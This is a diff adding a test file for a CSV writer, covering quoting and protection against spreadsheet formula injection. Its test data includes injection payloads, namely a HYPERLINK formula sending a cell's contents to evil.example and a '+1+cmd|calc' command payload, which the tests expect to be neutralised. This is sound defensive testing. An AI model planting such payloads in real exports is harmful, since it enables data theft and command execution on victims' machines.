@@ -1,0 +1,32 @@
+import { expect, test } from 'vitest'
+import { csvLine } from './csv.ts'
+
+test.each([
+  ['plain text', 'Ada', 'Ada'],
+  ['nothing', null, ''],
+  ['an empty text', '', ''],
+  ['a number', 12, '12'],
+  ['a negative number', -12, '-12'],
+  ['a truth', true, 'true'],
+  ['a comma', 'Example, Ada', '"Example, Ada"'],
+  ['a quote', 'Ada "A" Example', '"Ada ""A"" Example"'],
+  ['a line end', 'two\nlines', '"two\nlines"'],
+  ['other writing', 'Zoë 🙂', 'Zoë 🙂'],
+])('%s is written so that it is read as it was', (_what, cell, written) => {
+  expect(csvLine([cell, 'x'])).toBe(`${written},x\r\n`)
+})
+
+test.each([
+  ['=HYPERLINK("https://evil.example/?"&A1,"x")', `"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`],
+  ['+1+cmd|calc', "'+1+cmd|calc"],
+  ['-2+3', "'-2+3"],
+  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+  ['\t=1', `"'\t=1"`],
+  ['\r=1', `"'\r=1"`],
+])('text that would be a formula is kept from being one: %j', (cell, written) => {
+  expect(csvLine([cell])).toBe(`${written}\r\n`)
+})
+
+test('what holds such a sign further in is left alone', () => {
+  expect(csvLine(['a=b', 'x-y', "it's", 'ada@example.com'])).toBe("a=b,x-y,it's,ada@example.com\r\n")
+})
